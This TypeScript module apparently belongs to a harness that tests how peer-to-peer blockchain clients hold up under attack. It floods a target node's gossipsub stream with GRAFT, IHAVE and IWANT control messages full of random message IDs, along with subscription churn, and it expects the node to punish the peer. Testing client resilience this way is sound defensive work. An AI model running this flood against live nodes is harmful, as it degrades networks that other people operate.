/** Floods of GRAFT, IHAVE, IWANT and subscriptions. */

import { randomBytes } from "node:crypto";
import { type Attack, atRate, persist } from "../attack.ts";
import { nameOf, pour } from "../peer.ts";
import { control, field, subscription } from "../wire.ts";

const PER_SECOND = 200;
const IDS = 500;

export const attack: Attack = {
  claim: "GRAFT, IHAVE, IWANT and subscriptions without end, greeted",
  isPunished: true,
  run: (context) =>
    persist(
      context,
      async (peer) => {
        const topic = nameOf(context.target.chain, "blocks");
        const stream = await peer.open("/meshsub/1.2.0");
        let subscribes = true;
        await atRate(context, PER_SECOND, async () => {
          subscribes = !subscribes;
          const ids = Array.from({ length: IDS }, () => field(2, randomBytes(20)));
          const have = field(1, Buffer.concat([field(1, topic), ...ids]));
          const want = field(2, Buffer.concat(Array.from({ length: IDS }, () => field(1, randomBytes(20)))));
          const graft = field(3, field(1, topic));
          context.count("messages", 2);
          await pour(stream, subscription([topic, randomBytes(16).toString("hex")], subscribes));
          return await pour(stream, control(have, want, graft));
        });
      },
      true,
    ),
};
